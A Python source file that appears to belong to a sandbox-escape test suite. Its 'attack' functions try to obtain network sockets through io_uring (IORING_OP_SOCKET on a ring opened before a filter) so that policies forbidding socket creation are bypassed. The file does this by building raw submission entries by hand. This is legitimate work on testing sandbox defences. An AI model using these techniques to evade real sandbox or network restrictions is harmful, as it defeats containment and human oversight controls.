"""Rings: io_uring makes sockets without socket(2)."""

import ctypes
import mmap
import os
import struct
from collections.abc import Generator

from escape.attack import attack
from escape.attacks.sockets import STREAM, must_be_inet
from escape.scene import Scene, Unavailable

Steps = Generator[None, None, None]


def _params() -> "ctypes.Array[ctypes.c_char]":
    return ctypes.create_string_buffer(120)


@attack(no_network="sockets", compute_only="making", web_worker="kernel")
def ring(scene: Scene) -> Steps:
    yield
    os.close(scene.call("io_uring_setup", 4, _params()))


def _ring(scene: Scene) -> "tuple[int, ctypes.Array[ctypes.c_char]]":
    params = _params()
    try:
        return scene.call("io_uring_setup", 4, params), params
    except OSError as error:
        raise Unavailable(f"no io_uring here: {error.strerror}") from error


@attack(no_network="sockets", compute_only="making", web_worker="kernel")
def socket_by_a_ring_that_it_has(scene: Scene) -> Steps:
    """IORING_OP_SOCKET (Linux 5.19) through a ring that was set up before the filter."""
    number, params = _ring(scene)
    fields = struct.unpack_from("=10I", params.raw, 0)
    sq_off = struct.unpack_from("=8I", params.raw, 40)
    cq_off = struct.unpack_from("=8I", params.raw, 80)
    size = sq_off[6] + 4 * fields[0]
    rings = mmap.mmap(number, max(size, cq_off[5] + 16 * fields[1]))
    entries = mmap.mmap(number, 64 * fields[0], offset=0x10000000)
    entries[:64] = struct.pack("=BBHiQQIIQHHiQQ", 45, 0, 0, 2, STREAM, 0, 0, 0, 7, 0, 0, 0, 0, 0)
    struct.pack_into("=I", rings, sq_off[6], 0)
    struct.pack_into("=I", rings, sq_off[1], struct.unpack_from("=I", rings, sq_off[1])[0] + 1)
    yield
    scene.call("io_uring_enter", number, 1, 1, 1, 0, 0)
    user_data, result = struct.unpack_from("=Qi", rings, cq_off[5])
    assert user_data == 7
    if result < 0:
        raise Unavailable(f"IORING_OP_SOCKET: {os.strerror(-result)}")
    must_be_inet(result)


@attack(no_network="sockets", compute_only="making", web_worker="kernel")
def register_with_a_ring_that_it_has(scene: Scene) -> Steps:
    number, _ = _ring(scene)
    yield
    probe = ctypes.create_string_buffer(16 + 8 * 64)
    scene.call("io_uring_register", number, 8, probe, 64)  # IORING_REGISTER_PROBE
